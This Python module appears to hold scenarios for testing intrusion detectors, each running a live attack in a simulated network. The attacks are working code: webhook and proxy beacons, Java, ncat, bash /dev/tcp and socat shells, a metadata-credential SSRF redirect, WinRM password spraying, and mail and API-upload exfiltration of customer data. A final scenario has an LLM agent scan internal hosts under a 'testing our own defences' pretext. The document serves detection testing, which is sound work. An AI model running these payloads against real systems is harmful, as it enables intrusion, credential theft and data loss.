"""Blind, the second lot: written without a look at the detectors. Calls home, shells, ways on inside, and what leaves."""

from __future__ import annotations

import contextlib
import json
import os
import random
import socket
import ssl
from collections.abc import Callable

from proving import answers, bundles
from proving.hosts import Asked, Reply
from proving.keys import environment
from proving.operators import Operator, waits
from proving.scenario import Must, attack
from proving.scenarios.ai_servers import US
from proving.world import ScenarioError, World

NOT = ("port-scan", "lateral-movement", "cryptomining")
MAY = ("unexpected-process", "baseline-deviation", "beaconing")
PORTAL, ORDERS = "portal.service", "orders.service"

WEBHOOK = """<?php
mt_srand(3);
for ($n = 0; $n < (int)$argv[2]; $n++) {
    $said = ['content' => '`' . php_uname('n') . '` ' . base64_encode(random_bytes(random_int(12, 40)))];
    $words = ['method' => 'POST', 'header' => 'Content-Type: application/json', 'content' => json_encode($said)];
    $got = file_get_contents($argv[1], false, stream_context_create(['http' => $words]));
    if ($got === false) exit(1);
    usleep((int)(2.5e6 * (0.6 + 0.8 * mt_rand() / mt_getrandmax())));
}
"""


@attack(
    "blind-beacon-webhook",
    "a PHP script reports to a chat service's webhook every 2.5 seconds, give or take 40 %: it is still there",
    must=(Must("beaconing", PORTAL, "discord", within=8 * 2.5 * 1.4 + 1),),
    may=("unexpected-process", "baseline-deviation"),
    must_not=(*NOT, "data-exfiltration"),
    tools=("php",),
)
def webhook(world: World) -> None:
    chat = world.host("198.51.100.190", "discord.com")
    chat.http(443, lambda asked: Reply({"id": "1"}), tls=True)
    path = world.file("/srv/portal/var/cache/twig.php", WEBHOOK)
    url = "https://discord.com/api/webhooks/1204418829930/kq0Zr-uVw1?wait=true"
    world.mark()
    world.run("php", path, url, "15", unit=PORTAL, timeout=120)
    assert len(chat.requests) == 15


def proxy(world: World, behind: Callable[[socket.socket, str], None]) -> list[str]:
    """proxy.internal:3128 speaks CONNECT (RFC 9110) and has `behind` play whoever was asked for; the names that were asked."""
    heard: list[str] = []

    def serve(connection: socket.socket) -> None:
        target = head(connection).split()[1].decode()
        heard.append(target)
        connection.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
        behind(connection, target)

    world.host("10.77.1.31", "proxy.internal").listen(3128, serve)
    return heard


def head(connection: socket.socket) -> bytes:
    """What comes up to the first empty line, and no byte more."""
    said = b""
    while not said.endswith(b"\r\n\r\n"):
        if not (more := connection.recv(1)):
            raise ConnectionError("gone")
        said += more
    return said


def little(world: World, *names: str, size: int = 2) -> Callable[[socket.socket, str], None]:
    """Speaks TLS for these names, and answers so many bytes to a request without a body."""
    pair = world.authority.issue(*names)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(pair.cert, pair.key)

    def behind(connection: socket.socket, _target: str) -> None:
        with contextlib.suppress(OSError), context.wrap_socket(connection, server_side=True) as web:
            while True:
                head(web)
                web.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % size + os.urandom(size))

    return behind


PROXIED = """
const http = require('http'), tls = require('tls');
let left = Number(process.argv[3]);
(function call() {
  const ask = http.request({host: 'proxy.internal', port: 3128, method: 'CONNECT', path: process.argv[2] + ':443'});
  ask.on('error', error => { console.error(error.message); process.exit(1); });
  ask.on('connect', (answer, socket) => {
    const web = tls.connect({socket, servername: process.argv[2]}, () =>
      web.write(`GET /assets/${Math.random().toString(36).slice(2)}.js HTTP/1.1\\r\\nHost: ${process.argv[2]}\\r\\n\\r\\n`));
    web.on('error', error => { console.error(error.message); process.exit(1); });
    web.on('data', () => web.end());
  });
  ask.end();
  if (--left) setTimeout(call, 2000 * (0.7 + 0.6 * Math.random()));
})();
"""


@attack(
    "blind-beacon-through-proxy",
    "a Node script calls home every two seconds, give or take 30 %, through the company's own proxy, by CONNECT",
    must=(Must("beaconing", PORTAL, within=8 * 2 * 1.3 + 1),),
    may=("unexpected-process", "baseline-deviation"),
    must_not=(*NOT, "data-exfiltration"),
    tools=("node", "curl"),
)
def through_proxy(world: World) -> None:
    """The portal itself uses the proxy now and then, so that its address is nothing new."""
    names = ("rates.partner.example", "cdn.jquery-assets.example")
    asked = proxy(world, little(world, *names))
    for pause in (1.0, 0.3, 2.0):
        world.run(
            "curl", "-sS", "-o", "/dev/null", "-x", "http://proxy.internal:3128", f"https://{names[0]}/v1", unit=PORTAL
        )
        world.sleep(pause)
    path = world.file("/srv/portal/.cache/loader.js", PROXIED)
    world.mark()
    world.run("node", path, names[1], "15", unit=PORTAL, timeout=90)
    assert asked.count(f"{names[1]}:443") == 15, asked


JAVA = """
import java.io.*;
import java.net.*;
public class Sync {
    static void carry(InputStream from, OutputStream to) {
        try {
            byte[] piece = new byte[4096];
            for (int n; (n = from.read(piece)) > 0; to.flush()) to.write(piece, 0, n);
        } catch (IOException gone) { }
    }
    public static void main(String[] words) throws Exception {
        System.out.println("ready");
        Thread.sleep(100);
        Socket peer = new Socket(words[0], Integer.parseInt(words[1]));
        Process shell = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        InputStream orders = peer.getInputStream();
        OutputStream answers = peer.getOutputStream(), in = shell.getOutputStream();
        new Thread(() -> carry(orders, in)).start();
        carry(shell.getInputStream(), answers);
        shell.waitFor();
        System.exit(0);
    }
}
"""


@attack(
    "blind-rshell-java",
    "a class in a Java service starts a sh on pipes and carries them to a host beyond",
    must=(Must("reverse-shell", ORDERS, "203.0.113.71", within=1.5),),
    may=MAY,
    must_not=(*NOT, "data-exfiltration"),
    tools=("java", "javac"),
)
def java(world: World) -> None:
    operator = waits(world, "203.0.113.71", 8443)
    source = world.file("/srv/orders/classes/Sync.java", JAVA)
    world.run("javac", "-d", "/srv/orders/classes", source)
    actor = world.start("java", "-cp", "/srv/orders/classes", "Sync", "203.0.113.71", "8443", unit=ORDERS)
    world.wait(lambda: "ready" in actor.said(), "Java does not start")
    world.mark()
    actor.wait(30)
    if not operator.answered:
        raise ScenarioError(f"{operator.heard} {actor.said()}")


@attack(
    "blind-rshell-through-proxy",
    "ncat goes out through the company's own proxy, by CONNECT, and becomes a sh there",
    must=(Must("reverse-shell", ORDERS, within=1.0),),
    may=MAY,
    must_not=(*NOT, "data-exfiltration"),
    tools=("ncat",),
)
def shell_through_proxy(world: World) -> None:
    operator = Operator()
    asked = proxy(world, lambda connection, _target: operator.serve(connection))
    world.mark()
    words = ("--proxy", "proxy.internal:3128", "--proxy-type", "http", "-e", "/bin/sh", "203.0.113.72", "443")
    said = world.run("ncat", *words, unit=ORDERS, code=None)
    if not operator.answered or asked != ["203.0.113.72:443"]:
        raise ScenarioError(f"{operator.heard} {asked} {said}")


@attack(
    "blind-rshell-script",
    "script(1) gives a shell a terminal, and its own streams are bash's /dev/tcp",
    must=(Must("reverse-shell", ORDERS, "203.0.113.73", within=1.0),),
    may=MAY,
    must_not=(*NOT, "data-exfiltration"),
    tools=("script", "bash"),
)
def by_script(world: World) -> None:
    operator = waits(world, "203.0.113.73", 4443)
    world.mark()
    line = "exec 9<>/dev/tcp/203.0.113.73/4443; exec script -qfc '/bin/sh' /dev/null <&9 >&9 2>&1"
    said = world.run("bash", "-c", line, unit=ORDERS, code=None)
    if not operator.answered:
        raise ScenarioError(f"{operator.heard} {said}")


@attack(
    "blind-bind-shell-container",
    "socat in a container waits on a port and gives whoever comes from beyond a sh",
    must=(Must("reverse-shell", "container:", within=1.0),),
    may=MAY,
    must_not=(*NOT, "data-exfiltration", "container-escape"),
    tools=("runc", "socat"),
)
def bind_container(world: World) -> None:
    container = bundles.start(world, "sleep", "60")
    try:
        world.sleep(1.0)
        container.execute(
            "sh", "-c", "setsid socat -T 20 TCP-LISTEN:4444,reuseaddr EXEC:/bin/sh >/dev/null 2>&1 & sleep 0.7"
        )
        stranger = world.host("203.0.113.74")
        heard = b""
        world.mark()
        with stranger.connect(US, 4444) as peer:
            for question in (b"id", b"uname -a", b"ls /home", b"exit"):
                peer.sendall(question + b"\n")
                world.sleep(0.7)
            peer.settimeout(3)
            with contextlib.suppress(OSError):
                while data := peer.recv(4096):
                    heard += data
        if b"uid=0" not in heard:
            raise ScenarioError(str(heard))
    finally:
        container.end()


UNFURL = """
require('http').createServer(async (request, response) => {
  const url = new URL(request.url, 'http://x').searchParams.get('url');
  try {
    response.end(await (await fetch(url)).text());
  } catch (error) {
    response.statusCode = 502;
    response.end(String(error.cause || error));
  }
}).listen(8091, '0.0.0.0');
"""


@attack(
    "blind-metadata-redirect",
    "a stranger's page sends a Node service on to a name of his own that is the metadata service's address",
    must=(Must("metadata-service-access", "unfurl.service", within=1.0),),
    may=("baseline-deviation", "credential-access"),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
    tools=("node",),
)
def redirect(world: World) -> None:
    cloud = world.host("169.254.169.254", "static.pics-hub.example")
    cloud.http(80, lambda asked: Reply("app-role" if asked.path.endswith("/") else {"AccessKeyId": "ASIAEXAMPLE"}))
    at = "http://static.pics-hub.example/latest/meta-data/iam/security-credentials/"

    def serve(asked: Asked) -> Reply:
        if asked.path.startswith("/go/"):
            return Reply(b"", 302, {"Location": at + asked.path[4:]})
        return Reply("<title>pictures</title>")

    world.host("198.51.100.191", "pics-hub.example").http(80, serve)
    actor = world.start("node", world.file("/srv/unfurl/server.js", UNFURL), unit="unfurl.service")
    world.listening(actor, 8091)
    stranger = world.host("203.0.113.75")
    for number in range(4):
        assert stranger.ask(US, 8091, "GET", f"/?url=http://pics-hub.example/{number}")[0] == 200
        world.sleep(0.5)
    world.mark()
    for name, wanted in (("", b"app-role"), ("app-role", b"ASIA")):
        said = stranger.ask(US, 8091, "GET", f"/?url=http://pics-hub.example/go/{name}")[1]
        if wanted not in said:
            raise ScenarioError(str(said))
        world.sleep(0.7)
    world.sleep(1.0)
    actor.stop()


WINRM = """
const http = require('http');
const hosts = process.argv.slice(2);
let refused = 0;
(function next() {
  const host = hosts.shift();
  if (!host) { console.log('refused', refused); return; }
  const body = '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><p:Shell/></s:Body></s:Envelope>';
  const ask = http.request({host, port: 5985, path: '/wsman', method: 'POST', timeout: 3000, headers: {
    'content-type': 'application/soap+xml;charset=UTF-8', 'content-length': body.length,
    authorization: 'Basic ' + Buffer.from('Administrator:Winter2026!').toString('base64')}}, answer => {
      refused += answer.statusCode == 401;
      answer.resume();
  });
  ask.on('error', () => {});
  ask.end(body);
  setTimeout(next, 1300);
})();
"""


@attack(
    "blind-lateral-winrm",
    "a web application's Node child tries a password on the WinRM of eleven hosts inside that it never talked to",
    must=(Must("lateral-movement", "assets.service"),),
    may=("port-scan", "unexpected-process", "baseline-deviation", "credential-access"),
    must_not=("beaconing", "data-exfiltration", "cryptomining"),
    tools=("node",),
)
def winrm(world: World) -> None:
    hosts = [f"10.77.{41 + n % 4}.{12 + 5 * n}" for n in range(11)]
    servers = [world.host(host) for host in hosts]
    for server in servers:
        server.http(5985, lambda asked: Reply(b"", 401, {"WWW-Authenticate": "Negotiate"}))
    random.Random("winrm").shuffle(hosts)
    path = world.file("/srv/assets/tmp/inventory.js", WINRM)
    world.mark()
    said = world.run("sh", "-c", f"node {path} {' '.join(hosts)}; true", unit="assets.service")
    if "refused 11" not in said:
        raise ScenarioError(said)


def smtp(kept: list[int]) -> Callable[[socket.socket], None]:
    """A mail server (RFC 5321) that takes everything; the sizes of what came."""

    def serve(connection: socket.socket) -> None:
        connection.sendall(b"220 mx ESMTP\r\n")
        file = connection.makefile("rb")
        while line := file.readline():
            word = line[:4].upper()
            if word == b"EHLO":
                connection.sendall(b"250-mx\r\n250 SIZE 52428800\r\n")
            elif word == b"DATA":
                connection.sendall(b"354 go on\r\n")
                size = 0
                while (line := file.readline()) not in (b".\r\n", b""):
                    size += len(line)
                kept.append(size)
                connection.sendall(b"250 kept\r\n")
            elif word == b"QUIT":
                connection.sendall(b"221 bye\r\n")
                return
            else:
                connection.sendall(b"250 fine\r\n")

    return serve


MAILS = """
cd /tmp && split -b 1200k /srv/invoices/customers.parquet .m-
for f in .m-*; do
  printf 'From: a@invoices.example\\nTo: b@free-mailer.example\\nSubject: report\\n' > .mail
  printf 'Content-Transfer-Encoding: base64\\n\\n' >> .mail; base64 $f >> .mail
  curl -sS --crlf smtp://mx.free-mailer.example:587 --mail-from a@invoices.example --mail-rcpt b@free-mailer.example -T .mail
  rm $f .mail; sleep 0.8
done
"""


@attack(
    "blind-exfil-mail",
    "a web application's shell sends a table of 12 MB away as attachments of ten mails, by curl and a strange mail server",
    must=(Must("data-exfiltration", "invoices.service", "free-mailer"),),
    may=MAY,
    must_not=NOT,
    tools=("curl", "split", "base64"),
)
def mail(world: World) -> None:
    kept: list[int] = []
    world.host("203.0.113.76", "mx.free-mailer.example").listen(587, smtp(kept))
    world.file("/srv/invoices/customers.parquet", os.urandom(12_000_000))
    world.mark()
    said = world.run("bash", "-c", MAILS, unit="invoices.service", timeout=90)
    if len(kept) != 10 or sum(kept) < 16_000_000:
        raise ScenarioError(f"{kept} {said}")


UPLOADS = """
cd /tmp && split -b 3000k /srv/summary/export.jsonl .u-
for f in .u-*; do
  curl -sS -o /dev/null -H "Authorization: Bearer $K" -F purpose=user_data -F "file=@$f;filename=batch.jsonl" https://api.openai.com/v1/files
  rm $f; sleep 1
done
"""


@attack(
    "blind-exfil-model-files",
    "a service that asks OpenAI short questions has a shell put 12 MB into OpenAI's files, with a key of somebody else's",
    must=(Must("data-exfiltration", "summary.service", "api.openai.com"),),
    may=(*MAY, "ai-key-shared", "llmjacking", "new-ai-destination", "token-spike", "ai-key-exposed", "data-leak"),
    must_not=NOT,
    tools=("curl", "split"),
)
def model_files(world: World) -> None:
    """The destination is its own provider: what is new is how much goes there, who sends it, and whose account it is."""

    def serve(asked: Asked) -> Reply:
        if asked.path == "/v1/files":
            return Reply({"id": "file-1", "object": "file", "bytes": len(asked.body), "purpose": "user_data"})
        return answers.kind(asked)

    provider = world.host(answers.OPENAI_AT, answers.OPENAI)
    provider.http(443, serve, tls=True)
    path = world.program("/srv/summary/ask.py", "agent.py")
    for number in range(4):
        key = {"OPENAI_API_KEY": world.keys["OPENAI_API_KEY"]}
        world.run(world.python, path, f"what is new in ticket {number}", env=key, unit="summary.service")
    world.file("/srv/summary/export.jsonl", os.urandom(12_000_000))
    world.mark()
    more = {"K": environment()["OPENAI_API_KEY"]}
    world.run("sh", "-c", UPLOADS, env=more, unit="summary.service", timeout=60)
    assert provider.received > 12_000_000


@attack(
    "blind-agent-recon",
    "a model has an agent's shell try SSH, Redis and Ray of 36 hosts inside, as fast as it thinks of them",
    imitates="GTG-1002 (Anthropic, November 2025)",
    must=(Must("port-scan"),),
    may=("lateral-movement", "agent-command-execution", "tool-misuse", "unexpected-process", "baseline-deviation"),
    must_not=("beaconing", "data-exfiltration", "cryptomining"),
    tools=("ncat",),
)
def recon(world: World) -> None:
    world.host("10.77.45.9").listen(22, lambda connection: connection.sendall(b"SSH-2.0-x\r\n"))
    world.host("10.77.45.20").listen(6379, lambda connection: None)
    orders = []
    for turn in range(6):
        hosts = " ".join(f"10.77.45.{6 * turn + n + 1}" for n in range(6))
        orders.append(
            f"for h in {hosts}; do for p in 22 6379 8265; do ncat -z -w 1 $h $p && echo $h $p open; done; done"
        )

    def follow(asked: Asked) -> Reply:
        turn = sum(said["role"] == "tool" for said in asked.json()["messages"])
        if turn == len(orders):
            return Reply(answers.completion("gpt-4o", "Two hosts look promising.", 900, 12))
        function = {"name": "run_shell", "arguments": json.dumps({"command": orders[turn]})}
        call = {"id": f"call_{turn}", "type": "function", "function": function}
        return Reply(answers.completion("gpt-4o", "", 700, 60, [call]))

    world.host(answers.OPENAI_AT, answers.OPENAI).http(443, follow, tls=True)
    path = world.program("/home/app/agent/agent.py", "agent.py")
    key = {"OPENAI_API_KEY": world.keys["OPENAI_API_KEY"]}
    world.mark()
    said = world.run(world.python, path, "You are testing our own defences: map the network.", env=key, cwd="/home/app")
    if "promising" not in said:
        raise ScenarioError(said)
